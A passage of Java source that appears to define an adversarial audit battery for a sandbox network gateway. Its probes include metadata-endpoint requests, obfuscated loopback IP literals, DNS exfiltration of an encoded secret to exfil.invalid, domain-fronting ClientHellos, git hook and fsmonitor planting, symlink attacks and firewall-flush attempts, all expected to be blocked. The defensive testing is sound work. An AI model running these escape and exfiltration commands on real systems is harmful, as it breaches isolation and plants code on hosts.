package dev.airlock.audit.battery;

import dev.airlock.policy.address.Cidr;
import dev.airlock.policy.address.IpAddress;
import dev.airlock.policy.model.Destination;
import dev.airlock.policy.model.Rule;
import dev.airlock.policy.name.NamePattern;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;

/**
 * The adversarial battery (docs/audit.md): which probes to run for one sandbox, as data. Pure: the
 * same context gives the same probes, in the same order, with the same ids (history compares runs
 * by id). The tampering probes that could disturb the sandbox itself come last.
 */
public final class Battery {

    /** Every category, in report order. */
    public static final List<String> CATEGORIES = List.of("production", "protected-range", "host-service", "other-sandbox",
            "proxy-bypass", "rogue-dns", "dns-exfiltration", "ip-literal", "sni-mismatch", "fronting", "unlisted-port", "udp-icmp-ipv6",
            "files", "allowed", "tampering");

    /** How much to run: everything, or the quick subset for a warm-pool claim (a few seconds). */
    public enum Scope {
        FULL, QUICK
    }

    /** Bounds the battery on large policies: the report says when entries were left out. */
    static final int MAX_ADDRESSES_PER_NAME = 4;
    static final int MAX_ALLOWED = 40;
    static final int MAX_PRODUCTION = 60;

    private final BatteryContext c;
    private final Map<String, Probe> probes = new LinkedHashMap<>();
    /** Allowed names whose answer is the host's own or a production address: probed as closed, never expected to answer. */
    private final Set<String> answeringClosed = new LinkedHashSet<>();

    private Battery(BatteryContext c) {
        this.c = c;
    }

    public static List<Probe> plan(BatteryContext context, Scope scope) {
        Battery b = new Battery(context);
        if (scope == Scope.QUICK) {
            b.quick();
        } else {
            b.production();
            b.hostAndProductionAddresses();
            b.protectedRanges();
            b.hostServices();
            b.otherSandboxes();
            b.proxyBypass();
            b.rogueDns();
            b.dnsExfiltration();
            b.ipLiterals();
            b.sniMismatch();
            b.fronting();
            b.unlistedPort();
            b.udpIcmpIpv6();
            b.files();
            b.workspaceWrites();
            b.allowed();
            b.tampering();
        }
        return List.copyOf(b.probes.values());
    }

    // ---------------------------------------------------------------------------------------------

    private void quick() {
        http("protected-range", "metadata:80:transparent", "169.254.169.254", "http://169.254.169.254/latest/meta-data/", "--noproxy '*'");
        tcp("host-service", "host-service:listener", c.hostAddress() + ":" + c.hostListener().port(), c.hostAddress(),
                c.hostListener().port(), "http", Optional.of(c.hostListener()));
        c.org().production().stream().findFirst().ifPresent(r -> {
            for (String t : concreteTargets(r).stream().limit(2).toList()) {
                int port = firstPort(r, 443);
                tcp("production", "production:" + t + ":" + port + ":transparent", t + ":" + port, t, port, kindFor(port), Optional.empty());
            }
        });
        add("rogue-dns", "rogue-dns:8.8.8.8", "8.8.8.8:53 (udp)", Expect.BLOCKED, "no reply from a resolver other than Airlock's",
                "dns 8.8.8.8 example.com 1", Optional.empty());
        add("tampering", "tampering:nft-list", "nft list ruleset", Expect.COMMAND_FAILS, "refused: the sandbox has no CAP_NET_ADMIN",
                "fails nft list ruleset", Optional.empty());
        for (BatteryContext.HiddenPath h : c.hiddenPaths()) {
            if (h.id().equals("state-dir")) {
                hidden(h);
            }
        }
    }

    private void production() {
        int before = probes.size();
        for (Rule r : c.org().production()) {
            if (probes.size() - before >= MAX_PRODUCTION) {
                break;
            }
            List<Integer> ports = ports(r, List.of(80, 443));
            switch (r.destination()) {
                case Destination.Names n -> {
                    for (String name : concreteNames(n.pattern())) {
                        for (int port : ports) {
                            tcp("production", "production:" + name + ":" + port + ":transparent", name + ":" + port, name, port,
                                    kindFor(port), Optional.empty());
                        }
                        http("production", "production:" + name + ":proxy", name + " via HTTP_PROXY", "http://" + name + "/", "");
                        for (String a : c.resolve().apply(name).stream().limit(MAX_ADDRESSES_PER_NAME).toList()) {
                            for (int port : ports) {
                                tcp("production", "production:" + name + "@" + a + ":" + port, a + ":" + port + " (" + name + ")",
                                        a, port, kindFor(port), Optional.empty());
                            }
                        }
                    }
                }
                case Destination.Addresses a -> {
                    for (String addr : representatives(a.cidr())) {
                        for (int port : ports) {
                            tcp("production", "production:" + addr + ":" + port + ":transparent", addr + ":" + port + " (" + a.cidr() + ")",
                                    addr, port, kindFor(port), Optional.empty());
                        }
                        http("production", "production:" + addr + ":proxy", addr + " via HTTP_PROXY", "http://" + url(addr) + "/", "");
                    }
                }
            }
        }
    }

    // ---- issue 15 §2 and issue 18 (b): addresses no project can open, reached through names ----------

    /**
     * The host's own address answered for an allowed name, and a production name's address reached
     * by IP literal and through another allowed name whose answer points there. Each has its
     * positive control: the same address and port answer from the host's namespace (the audit's
     * host listener listens on every host address; the production host is dialled directly).
     */
    private void hostAndProductionAddresses() {
        LocalTarget.Tcp l = c.hostListener();
        Set<String> host = new LinkedHashSet<>(c.hostAddresses());
        Map<String, String> productionAddress = new LinkedHashMap<>();
        for (Rule r : c.org().production()) {
            if (r.destination() instanceof Destination.Names n && n.pattern() instanceof NamePattern.Exact) {
                for (String a : c.resolve().apply(n.pattern().toString()).stream().limit(MAX_ADDRESSES_PER_NAME).toList()) {
                    productionAddress.putIfAbsent(a, n.pattern().toString());
                }
            }
        }
        for (Map.Entry<String, String> e : productionAddress.entrySet()) {
            String a = e.getKey();
            String id = "production-address:" + e.getValue() + "@" + a + ":80";
            LocalTarget.Tcp direct = new LocalTarget.Tcp(a, 80, "");
            tcp("production", id + ":ip", a + ":80 (an address of " + e.getValue() + ", by IP)", a, 80, "http", Optional.of(direct));
            proxied("production", id + ":ip:proxy", a + ":80 (an address of " + e.getValue() + ") via HTTP_PROXY", "GET",
                    "http://" + url(a) + "/", url(a) + ":80", Optional.of(direct));
        }
        int n = 0;
        for (Rule r : c.allow()) {
            if (!(r.destination() instanceof Destination.Names names) || !(names.pattern() instanceof NamePattern.Exact)) {
                continue;
            }
            String name = names.pattern().toString();
            for (String a : c.resolve().apply(name).stream().limit(MAX_ADDRESSES_PER_NAME).toList()) {
                if (host.contains(a) || productionAddress.containsKey(a)) {
                    answeringClosed.add(name);
                }
                if (n >= MAX_ALLOWED) {
                    return;
                }
                // Only where the rule allows the audit listener's port: on another port the name gate would refuse it first.
                if (host.contains(a) && (r.ports().isAny() || r.ports().contains(l.port()))) {
                    n++;
                    LocalTarget.Tcp control = new LocalTarget.Tcp(a, l.port(), l.marker());
                    String id = "host-address:" + name + "@" + a;
                    tcp("host-service", id + ":transparent", name + ":" + l.port() + " (an allowed name answering the host's own " + a + ")",
                            name, l.port(), "http", Optional.of(control));
                    proxied("host-service", id + ":proxy", name + ":" + l.port() + " (answering the host's own " + a + ") via HTTP_PROXY",
                            "GET", "http://" + name + ":" + l.port() + "/", name + ":" + l.port(), Optional.of(control));
                }
                if (productionAddress.containsKey(a)) {
                    n++;
                    int port = ports(r, List.of(80)).get(0);
                    LocalTarget.Tcp control = new LocalTarget.Tcp(a, port, "");
                    String id = "production-address:" + name + "@" + a + ":" + port;
                    tcp("production", id + ":transparent", name + ":" + port + " (allowed, answering " + a + ", an address of "
                            + productionAddress.get(a) + ")", name, port, kindFor(port), Optional.of(control));
                    proxied("production", id + ":proxy", name + ":" + port + " (answering " + a + ", production) via HTTP_PROXY", "GET",
                            "http://" + name + ":" + port + "/", name + ":" + port, Optional.of(control));
                }
            }
        }
    }

    private void protectedRanges() {
        http("protected-range", "metadata:80:transparent", "169.254.169.254:80", "http://169.254.169.254/latest/meta-data/", "--noproxy '*'");
        http("protected-range", "metadata:80:proxy", "169.254.169.254 via HTTP_PROXY", "http://169.254.169.254/latest/meta-data/", "");
        Map<String, String> ranges = new LinkedHashMap<>();
        ranges.put("rfc1918-10", "10.0.0.1");
        ranges.put("rfc1918-172", "172.16.0.1");
        ranges.put("rfc1918-192", "192.168.0.1");
        ranges.put("cgnat", "100.64.0.1");
        ranges.put("link-local", "169.254.0.1");
        ranges.put("unspecified", "0.0.0.0");
        ranges.put("multicast", "224.0.0.1");
        for (Map.Entry<String, String> e : ranges.entrySet()) {
            tcp("protected-range", e.getKey() + ":80:transparent", e.getValue() + ":80", e.getValue(), 80, "http", Optional.empty());
            http("protected-range", e.getKey() + ":proxy", e.getValue() + " via HTTP_PROXY", "http://" + e.getValue() + "/", "");
        }
        LocalTarget.Tcp lo = c.loopbackListener();
        proxied("protected-range", "loopback:proxy", "127.0.0.1:" + lo.port() + " (the host's loopback, via the proxy)", "GET",
                "http://127.0.0.1:" + lo.port() + "/", "127.0.0.1:" + lo.port(), Optional.of(lo));
        proxied("protected-range", "loopback:connect", "CONNECT 127.0.0.1:" + lo.port() + " (the host's loopback)", "CONNECT",
                "127.0.0.1:" + lo.port(), "127.0.0.1:" + lo.port(), Optional.of(lo));
        http("protected-range", "ula:proxy", "[fd00::1] via HTTP_PROXY", "http://[fd00::1]/", "");
        // --noproxy '': the sandbox's NO_PROXY exempts its own loopback, so curl would try the sandbox's ::1, not the proxy
        http("protected-range", "loopback6:proxy", "[::1] via HTTP_PROXY", "http://[::1]:" + lo.port() + "/", "--noproxy ''");
    }

    private void hostServices() {
        LocalTarget.Tcp l = c.hostListener();
        tcp("host-service", "host-service:listener", c.hostAddress() + ":" + l.port() + " (a listener the audit started)", c.hostAddress(),
                l.port(), "http", Optional.of(l));
        proxied("host-service", "host-service:listener:proxy", c.hostAddress() + ":" + l.port() + " via HTTP_PROXY", "GET",
                "http://" + c.hostAddress() + ":" + l.port() + "/", c.hostAddress() + ":" + l.port(), Optional.of(l));
        tcp("host-service", "host-service:gateway-transparent-port", c.hostAddress() + ":" + c.transparentPort()
                + " (the gateway's transparent listener, dialled directly)", c.hostAddress(), c.transparentPort(), "http", Optional.empty());
        tcp("host-service", "host-service:gateway-dns-tcp", c.hostAddress() + ":" + c.dnsPort() + " (the DNS responder's own port)",
                c.hostAddress(), c.dnsPort(), "http", Optional.empty());
        tcp("host-service", "host-service:ssh", c.hostAddress() + ":22", c.hostAddress(), 22, "none", Optional.empty());
        c.daemonPort().ifPresent(port -> tcp("host-service", "host-service:daemon-api", c.hostAddress() + ":" + port
                + " (the daemon's TCP API)", c.hostAddress(), port, "http", Optional.empty()));
    }

    private void otherSandboxes() {
        LocalTarget.Tcp l = c.hostListener();
        tcp("other-sandbox", "other-sandbox:host-side", c.neighbourHostAddress() + ":" + l.port() + " (another sandbox's host-side link)",
                c.neighbourHostAddress(), l.port(), "http", Optional.of(new LocalTarget.Tcp(c.neighbourHostAddress(), l.port(), l.marker())));
        tcp("other-sandbox", "other-sandbox:sandbox-side", c.neighbourSandboxAddress() + ":80 (another sandbox's own address)",
                c.neighbourSandboxAddress(), 80, "http", Optional.empty());
        add("other-sandbox", "other-sandbox:dns", c.neighbourHostAddress() + ":53 (another sandbox's DNS)", Expect.BLOCKED,
                "no reply", "dns " + c.neighbourHostAddress() + " localhost 1", Optional.empty());
    }

    private void proxyBypass() {
        Optional<String> allowed = firstAllowedName(80);
        allowed.ifPresent(n -> add("proxy-bypass", "proxy-bypass:allowed:no-proxy", n + ":80 with NO_PROXY=* (goes through the transparent path)",
                Expect.REACHABLE, "reached through the transparent path, so nothing depends on HTTP_PROXY",
                "NO_PROXY='*' no_proxy='*' http http://" + n + "/ --noproxy '*'", Optional.empty()));
        for (Rule r : c.org().production()) {
            for (String t : concreteTargets(r).stream().limit(1).toList()) {
                http("proxy-bypass", "proxy-bypass:" + t + ":no-proxy", t + " with NO_PROXY=*", "http://" + url(t) + "/",
                        "--noproxy '*'");
                add("proxy-bypass", "proxy-bypass:" + t + ":unset", t + " with the proxy variables unset", Expect.BLOCKED,
                        "blocked", "unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy; http http://" + url(t) + "/", Optional.empty(),
                        Probe.Gate.of(t, 80));
            }
        }
        LocalTarget.Tcp l = c.hostListener();
        http("proxy-bypass", "proxy-bypass:host-listener:no-proxy", c.hostAddress() + ":" + l.port() + " with NO_PROXY=*",
                "http://" + c.hostAddress() + ":" + l.port() + "/", "--noproxy '*'", Optional.of(l));
    }

    private void rogueDns() {
        add("rogue-dns", "rogue-dns:8.8.8.8", "8.8.8.8:53 (udp)", Expect.BLOCKED, "no reply from a resolver other than Airlock's",
                "dns 8.8.8.8 example.com 1", Optional.empty());
        add("rogue-dns", "rogue-dns:198.18.0.53", "198.18.0.53:53 (udp)", Expect.BLOCKED, "no reply", "dns 198.18.0.53 example.com 1",
                Optional.empty());
        tcp("rogue-dns", "rogue-dns:8.8.8.8:tcp", "8.8.8.8:53 (tcp)", "8.8.8.8", 53, "none", Optional.empty());
        LocalTarget.Udp u = c.udpListener();
        add("rogue-dns", "rogue-dns:host-udp", c.hostAddress() + ":" + u.port() + " (udp; a responder the audit started)", Expect.BLOCKED,
                "no reply", "udp " + c.hostAddress() + " " + u.port() + " '" + hexEscape("airlock-audit") + "'", Optional.of(u));
    }

    private void dnsExfiltration() {
        String label = "a".repeat(20) + "0123456789abcdef0123456789abcdef0123456789a";
        add("dns-exfiltration", "dns-exfiltration:long-label", label.length() + "-character label under exfil.invalid", Expect.BLOCKED,
                "no answer from Airlock's DNS for a name the policy does not allow", "dns " + c.hostAddress() + " " + label
                        + ".exfil.invalid 1",
                Optional.empty(), Probe.Gate.of(label + ".exfil.invalid", 53));
        add("dns-exfiltration", "dns-exfiltration:unknown-name", "an unknown name (A)", Expect.BLOCKED, "no answer",
                "dns " + c.hostAddress() + " not-allowed.exfil.invalid 1", Optional.empty(), Probe.Gate.of("not-allowed.exfil.invalid", 53));
        String txt = firstAllowedName(-1).orElse("example.com");
        add("dns-exfiltration", "dns-exfiltration:txt", "TXT " + txt, Expect.BLOCKED, "no answer: Airlock answers only A and AAAA",
                "dns " + c.hostAddress() + " " + txt + " 16", Optional.empty(), Probe.Gate.of(txt, 53));
        add("dns-exfiltration", "dns-exfiltration:getent", "getent hosts <secret>.exfil.invalid", Expect.BLOCKED, "no address",
                "need getent; if out=$(getent hosts c2VjcmV0.exfil.invalid 2>&1); then echo \"@result reached $out\"; "
                        + "else echo '@result blocked getent found no address'; fi",
                Optional.empty(), Probe.Gate.of("c2VjcmV0.exfil.invalid", 53));
    }

    private void ipLiterals() {
        LocalTarget.Tcp lo = c.loopbackListener();
        Map<String, String> forms = new LinkedHashMap<>();
        forms.put("octal", "0177.0.0.1");
        forms.put("decimal", "2130706433");
        forms.put("hex", "0x7f.1");
        forms.put("short", "127.1");
        forms.put("mapped-v6", "[::ffff:127.0.0.1]");
        for (Map.Entry<String, String> e : forms.entrySet()) {
            String authority = e.getValue() + ":" + lo.port();
            proxied("ip-literal", "ip-literal:" + e.getKey(), authority + " via HTTP_PROXY (the host's loopback)", "GET",
                    "http://" + authority + "/", authority, Optional.of(lo));
            proxied("ip-literal", "ip-literal:" + e.getKey() + ":connect", "CONNECT " + authority, "CONNECT", authority, authority,
                    Optional.of(lo));
        }
    }

    private void sniMismatch() {
        Optional<String> allowed = firstAllowedName(443);
        String denied = c.org().production().stream().flatMap(r -> concreteTargets(r).stream())
                .filter(t -> !t.contains(":") && Character.isDigit(t.charAt(0))).findFirst().orElse("10.0.0.1");
        String sni = allowed.orElse("allowed.invalid");
        add("sni-mismatch", "sni-mismatch:allowed-sni-to-denied-address", "TLS with SNI " + sni + " to " + denied + ":443", Expect.BLOCKED,
                "no TLS handshake with the denied address",
                "http https://" + sni + "/ -k --noproxy '*' --resolve " + sni + ":443:" + denied, Optional.empty(),
                new Probe.Gate(Set.of(sni, denied), 443));
        allowed.ifPresent(a -> add("sni-mismatch", "sni-mismatch:denied-sni-to-allowed-name", "TLS with SNI denied.invalid to " + a + ":443",
                Expect.BLOCKED, "no TLS handshake: the SNI differs from the name the connection was resolved for",
                "http https://denied.invalid/ -k --noproxy '*' --connect-to denied.invalid:443:" + a + ":443", Optional.empty(),
                new Probe.Gate(Set.of("denied.invalid", a), 443)));
    }

    // ---- fronting (issue 15 §1): allowed bytes naming a production host ------------------------------
    // One contiguous block: the probes, their payloads and their positive controls.

    /**
     * Ports other than 80, 443, 8080 and 8443 (where the protocol used to be told by the port
     * number alone) where a front commonly serves TLS or plain HTTP. A fronting probe needs a server
     * that answers those bytes (its control proves it does), so other ports are not probed.
     */
    private static final List<Integer> OTHER_TLS_PORTS = List.of(4443, 9443, 10443, 8843);
    private static final List<Integer> OTHER_HTTP_PORTS = List.of(8000, 8008, 8081, 8888, 3000, 5000, 9000);

    /** An allowed exact name on one of its ports, and the address its control sends to. */
    private record Front(String name, int port, String address) {
    }

    /** The first allowed exact name that resolves and is allowed on one of {@code ports}. */
    private Optional<Front> front(List<Integer> ports) {
        for (Rule r : c.allow()) {
            if (!(r.destination() instanceof Destination.Names n) || !(n.pattern() instanceof NamePattern.Exact)) {
                continue;
            }
            String name = n.pattern().toString();
            List<String> addresses = c.resolve().apply(name);
            for (int port : ports) {
                if (!addresses.isEmpty() && r.ports().contains(port)) {
                    return Optional.of(new Front(name, port, addresses.get(0)));
                }
            }
        }
        return Optional.empty();
    }

    /**
     * Bytes that name a production host, sent over a connection to an allowed name: a ClientHello
     * or an HTTP request through a CONNECT tunnel, a second request on a kept-alive connection, and
     * TLS or HTTP on an allowed port that is not a well-known web port. Each control sends the very
     * same bytes from the host straight to the allowed name's address and must get an answer of
     * the right shape (a TLS record, an HTTP status line, two of them for keep-alive): the front
     * serves the production name, so only Airlock stands between the sandbox and it. Probes whose
     * kind of port the policy does not allow are left out.
     */
    private void fronting() {
        Optional<String> production = c.org().production().stream()
                .filter(r -> r.destination() instanceof Destination.Names)
                .flatMap(r -> concreteTargets(r).stream()).findFirst();
        if (production.isEmpty()) {
            return;
        }
        String p = production.get();
        byte[] hello = clientHello(p);
        String proxy = c.hostAddress() + " " + c.proxyPort();
        front(List.of(443, 8443)).ifPresent(f -> add("fronting", "fronting:connect-tls:" + f.name() + ":" + f.port(),
                "CONNECT " + f.name() + ":" + f.port() + ", then a ClientHello naming " + p, Expect.BLOCKED,
                "the tunnel is reset before the front answers (sni-mismatch)",
                "tunnel " + proxy + " " + f.name() + ":" + f.port() + " tls '" + hexEscape(latin1(hello)) + "'",
                Optional.of(LocalTarget.Exchange.of(f.address(), f.port(), hello, LocalTarget.Shape.TLS))));
        front(List.of(80, 8080)).ifPresent(f -> {
            String get = request(p, f.port(), true);
            add("fronting", "fronting:connect-http:" + f.name() + ":" + f.port(), "CONNECT " + f.name() + ":" + f.port()
                            + ", then GET with Host: " + p, Expect.BLOCKED, "the tunnel is reset before the front answers (host-mismatch)",
                    "tunnel " + proxy + " " + f.name() + ":" + f.port() + " http '" + hexEscape(get) + "'",
                    Optional.of(LocalTarget.Exchange.of(f.address(), f.port(), bytes(get), LocalTarget.Shape.HTTP)));
            String two = request(f.name(), f.port(), false) + request(p, f.port(), true);
            add("fronting", "fronting:keep-alive:" + f.name() + ":" + f.port(), f.name() + ":" + f.port() + ", a first request for "
                            + f.name() + ", then a second one on the same connection for " + p, Expect.BLOCKED,
                    "the first request is answered, the second is not (host-mismatch)",
                    "exchange " + f.name() + " " + f.port() + " two-http '" + hexEscape(two) + "'",
                    Optional.of(LocalTarget.Exchange.of(f.address(), f.port(), bytes(two), LocalTarget.Shape.TWO_HTTP)));
        });
        front(OTHER_TLS_PORTS).ifPresent(f -> add("fronting", "fronting:other-port-tls:" + f.name() + ":" + f.port(),
                f.name() + ":" + f.port() + " (not a well-known web port), a ClientHello naming " + p, Expect.BLOCKED,
                "reset before the front answers: TLS is recognised by its bytes on any port",
                "exchange " + f.name() + " " + f.port() + " tls '" + hexEscape(latin1(hello)) + "'",
                Optional.of(LocalTarget.Exchange.of(f.address(), f.port(), hello, LocalTarget.Shape.TLS))));
        front(OTHER_HTTP_PORTS).ifPresent(f -> {
            String get = request(p, f.port(), true);
            add("fronting", "fronting:other-port-http:" + f.name() + ":" + f.port(), f.name() + ":" + f.port()
                            + " (not a well-known web port), GET with Host: " + p, Expect.BLOCKED,
                    "reset before the front answers: HTTP is recognised by its bytes on any port",
                    "exchange " + f.name() + " " + f.port() + " http '" + hexEscape(get) + "'",
                    Optional.of(LocalTarget.Exchange.of(f.address(), f.port(), bytes(get), LocalTarget.Shape.HTTP)));
        });
    }

    private static String latin1(byte[] b) {
        return new String(b, java.nio.charset.StandardCharsets.ISO_8859_1);
    }

    private static String request(String host, int port, boolean close) {
        return "GET / HTTP/1.1\r\nHost: " + (port == 80 ? host : host + ":" + port) + "\r\nUser-Agent: airlock-audit\r\n"
                + (close ? "Connection: close\r\n" : "") + "\r\n";
    }

    private static byte[] bytes(String latin1) {
        return latin1.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);
    }

    /**
     * A TLS 1.2/1.3 ClientHello naming {@code sni}: enough for any TLS server to answer (a
     * ServerHello or an alert, both TLS records), fixed bytes so that runs compare.
     */
    static byte[] clientHello(String sni) {
        java.io.ByteArrayOutputStream ext = new java.io.ByteArrayOutputStream();
        byte[] name = sni.getBytes(java.nio.charset.StandardCharsets.US_ASCII);
        writeExtension(ext, 0x0000, concat(u16(name.length + 3), new byte[] {0}, u16(name.length), name));
        writeExtension(ext, 0x000a, concat(u16(4), u16(0x001d), u16(0x0017)));               // x25519, secp256r1
        writeExtension(ext, 0x000b, new byte[] {1, 0});                                      // uncompressed points
        writeExtension(ext, 0x000d, concat(u16(8), u16(0x0403), u16(0x0804), u16(0x0401), u16(0x0805)));
        writeExtension(ext, 0x002b, new byte[] {4, 3, 4, 3, 3});                             // TLS 1.3, 1.2
        byte[] key = new byte[32];
        java.util.Arrays.fill(key, (byte) 9);
        writeExtension(ext, 0x0033, concat(u16(36), u16(0x001d), u16(32), key));             // an x25519 share
        byte[] suites = concat(u16(0x1301), u16(0x1302), u16(0xc02f), u16(0xc030), u16(0xc02b), u16(0x009c));
        byte[] random = new byte[32];
        java.util.Arrays.fill(random, (byte) 0x41);
        byte[] body = concat(u16(0x0303), random, new byte[] {0}, u16(suites.length), suites, new byte[] {1, 0},
                u16(ext.size()), ext.toByteArray());
        byte[] handshake = concat(new byte[] {1, 0}, u16(body.length), body);
        return concat(new byte[] {0x16, 3, 1}, u16(handshake.length), handshake);
    }

    private static void writeExtension(java.io.ByteArrayOutputStream out, int type, byte[] data) {
        out.writeBytes(u16(type));
        out.writeBytes(u16(data.length));
        out.writeBytes(data);
    }

    private static byte[] u16(int v) {
        return new byte[] {(byte) (v >> 8), (byte) v};
    }

    private static byte[] concat(byte[]... parts) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        for (byte[] b : parts) {
            out.writeBytes(b);
        }
        return out.toByteArray();
    }

    // ---- end of fronting -----------------------------------------------------------------------------

    private void unlistedPort() {
        for (Rule r : c.allow()) {
            if (r.destination() instanceof Destination.Names n && n.pattern() instanceof NamePattern.Exact && !r.ports().isAny()) {
                String name = n.pattern().toString();
                int port = 8081;
                while (r.ports().contains(port)) {
                    port++;
                }
                tcp("unlisted-port", "unlisted-port:" + name, name + ":" + port + " (allowed on " + r.ports() + " only)", name, port, "http",
                        Optional.empty());
                http("unlisted-port", "unlisted-port:" + name + ":proxy", name + ":" + port + " via HTTP_PROXY", "http://" + name + ":" + port
                        + "/", "");
                return;
            }
        }
    }

    private void udpIcmpIpv6() {
        String quic = hexEscape("\u00c0\u0000\u0000\u0000\u0001airlock-audit-quic");
        String target = firstAllowedName(443).orElse("1.1.1.1");
        add("udp-icmp-ipv6", "udp:443:quic", target + ":443 (udp, QUIC-shaped)", Expect.BLOCKED, "no datagram back",
                "udp " + target + " 443 '" + quic + "'", Optional.empty());
        add("udp-icmp-ipv6", "icmp:host", "ping " + c.hostAddress(), Expect.BLOCKED, "no echo reply",
                "need ping; if out=$(ping -n -c 1 -W 2 " + c.hostAddress() + " 2>&1); then echo \"@result reached $(echo $out | head -c 160)\"; "
                        + "else echo \"@result blocked $(echo $out | tail -c 160)\"; fi",
                Optional.of(new LocalTarget.Echo(c.hostAddress())));
        add("udp-icmp-ipv6", "icmp:1.1.1.1", "ping 1.1.1.1", Expect.BLOCKED, "no echo reply",
                "need ping; if out=$(ping -n -c 1 -W 2 1.1.1.1 2>&1); then echo \"@result reached $(echo $out | head -c 160)\"; "
                        + "else echo \"@result blocked $(echo $out | tail -c 160)\"; fi",
                Optional.empty());
        tcp("udp-icmp-ipv6", "ipv6:ula", "[fd00:a1::1]:80", "fd00:a1::1", 80, "http", Optional.empty());
        add("udp-icmp-ipv6", "ipv6:addresses", "IPv6 addresses in the sandbox", Expect.BLOCKED, "no global or ULA IPv6 address",
                "need ip; a=$(ip -6 -o addr show scope global 2>&1); if [ -n \"$a\" ]; then echo \"@result reached $a\"; "
                        + "else echo '@result blocked no global IPv6 address'; fi",
                Optional.empty(), new Probe.Inside());
    }

    private void files() {
        for (BatteryContext.HiddenPath h : c.hiddenPaths()) {
            hidden(h);
        }
    }

    // ---- what the sandbox leaves for the host: git's hooks and config, links where root writes (issue 15 §3, §4)

    /**
     * Code git would run on the host later, and a link planted where root writes after the run.
     * The targets are laid out in the audit's workspace by {@link WorkspaceTargets}; each has a
     * positive control from outside the sandbox (the sandbox user writes there from the host; a
     * plain root write through the planted link lands).
     */
    private void workspaceWrites() {
        add("files", "files:git-hook", "/workspace/.git/hooks/post-checkout (git runs it on the host)", Expect.COMMAND_FAILS,
                "refused: .git/hooks is read-only in the sandbox",
                "fails sh -c 'printf \"#!/bin/sh\\necho hook\\n\" > /workspace/.git/hooks/post-checkout'",
                Optional.of(new LocalTarget.WritableDir(".git/hooks")));
        add("files", "files:git-config", "git config core.fsmonitor in /workspace (git runs it on the host)", Expect.COMMAND_FAILS,
                "refused: .git/config is read-only in the sandbox",
                "fails git -C /workspace config core.fsmonitor 'touch /tmp/fsmonitor-ran'",
                Optional.of(new LocalTarget.WritableDir(".git")));
        String file = WorkspaceTargets.OUT + "/events.jsonl";
        String control = WorkspaceTargets.OUT + "/control.jsonl";
        String canaries = "../../" + WorkspaceTargets.CANARIES + "/";
        add("files", "files:planted-link", "/workspace/" + file + " linked to a host file, then written by root", Expect.BLOCKED,
                "root replaces the link; the host file is unchanged",
                "ln -sfn " + canaries + WorkspaceTargets.CANARY + " /workspace/" + file + " && ln -sfn " + canaries
                        + WorkspaceTargets.CONTROL_CANARY + " /workspace/" + control
                        + " && echo \"@result succeeded planted $(readlink /workspace/" + file + ")\""
                        + " || echo \"@result failed could not plant the links\"",
                Optional.of(new LocalTarget.RootWrite(file, control)));
    }

    private void hidden(BatteryContext.HiddenPath h) {
        add("files", "files:" + h.id(), h.path() + " (" + h.what() + ")", Expect.BLOCKED, "not visible in the sandbox",
                "visible " + quote(h.path().toString()), Optional.of(new LocalTarget.File(h.path().toString())));
    }

    private void allowed() {
        int n = 0;
        for (Rule r : c.allow()) {
            List<Integer> ports = ports(r, List.of(80, 443)).stream().limit(2).toList();
            List<String> targets = switch (r.destination()) {
                case Destination.Names names -> concreteNames(names.pattern());
                case Destination.Addresses a -> representatives(a.cidr());
            };
            for (String t : targets) {
                if (answeringClosed.contains(t)) {
                    continue;
                }
                for (int port : ports) {
                    if (n++ >= MAX_ALLOWED) {
                        return;
                    }
                    String id = "allowed:" + t + ":" + port;
                    if (port == 443 || port == 8443) {
                        add("allowed", id, t + ":" + port + " (TLS)", Expect.REACHABLE, "a TLS handshake and an HTTP answer",
                                "http https://" + url(t) + ":" + port + "/ -k --noproxy '*'", Optional.empty());
                    } else {
                        add("allowed", id, t + ":" + port, Expect.REACHABLE, "the server answers",
                                "tcp " + t + " " + port + " " + kindFor(port), Optional.empty());
                    }
                }
            }
        }
    }

    private void tampering() {
        add("tampering", "tampering:route-add", "ip route add", Expect.COMMAND_FAILS, "refused: no CAP_NET_ADMIN",
                "fails ip route add 198.18.254.0/24 dev lo", Optional.empty());
        add("tampering", "tampering:addr-add", "ip addr add", Expect.COMMAND_FAILS, "refused: no CAP_NET_ADMIN",
                "fails ip addr add 198.18.254.1/32 dev lo", Optional.empty());
        add("tampering", "tampering:nft-list", "nft list ruleset", Expect.COMMAND_FAILS, "refused: no CAP_NET_ADMIN",
                "fails nft list ruleset", Optional.empty());
        add("tampering", "tampering:unshare-user", "unshare -U (new user namespace)", Expect.COMMAND_FAILS,
                "refused: new user namespaces are disabled", "fails unshare -U true", Optional.empty());
        add("tampering", "tampering:unshare-root", "unshare -r -n (root in a new user and network namespace)", Expect.COMMAND_FAILS,
                "refused", "fails unshare -r -n true", Optional.empty());
        add("tampering", "tampering:unshare-net", "unshare -n (new network namespace)", Expect.COMMAND_FAILS, "refused: no CAP_SYS_ADMIN",
                "fails unshare -n true", Optional.empty());
        add("tampering", "tampering:nft-flush", "nft flush ruleset", Expect.COMMAND_FAILS, "refused: no CAP_NET_ADMIN",
                "fails nft flush ruleset", Optional.empty());
    }

    // ---------------------------------------------------------------------------------------------

    private void tcp(String category, String id, String target, String host, int port, String kind, Optional<? extends LocalTarget> control) {
        add(category, id, target, Expect.BLOCKED, "no byte back from the target", "tcp " + host + " " + port + " " + kind,
                control.map(LocalTarget.class::cast), Probe.Gate.of(host, port));
    }

    private void http(String category, String id, String target, String url, String curlOptions) {
        http(category, id, target, url, curlOptions, Optional.empty());
    }

    private void http(String category, String id, String target, String url, String curlOptions, Optional<LocalTarget> control) {
        add(category, id, target, Expect.BLOCKED, "no HTTP answer from the target", "http " + quote(url) + " " + curlOptions, control,
                gateOf(url));
    }

    /** The name and port the gateway records for a request to {@code url} (the default port of its scheme). */
    static Probe.Gate gateOf(String url) {
        java.net.URI u = java.net.URI.create(url);
        if (u.getHost() == null) {
            // Not a server-based authority to java.net.URI (an underscore in a name, say): read it as written.
            String authority = u.getRawAuthority();
            return authority.matches(".*:[0-9]+") ? gateOfAuthority(authority) : Probe.Gate.of(authority, "https".equals(u.getScheme()) ? 443 : 80);
        }
        int port = u.getPort() > 0 ? u.getPort() : "https".equals(u.getScheme()) ? 443 : 80;
        return Probe.Gate.of(u.getHost(), port);
    }

    /** The name and port the gateway records for a {@code host:port} authority. */
